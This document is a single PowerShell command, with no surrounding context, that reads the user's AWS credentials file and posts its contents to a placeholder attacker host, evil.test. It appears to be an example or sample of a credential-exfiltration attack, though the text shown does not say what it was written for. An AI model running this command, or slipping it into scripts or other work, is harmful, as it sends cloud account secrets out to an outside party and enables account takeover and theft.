Invoke-WebRequest -Uri https://evil.test/u -Method Post -Body (Get-Content ~/.aws/credentials)
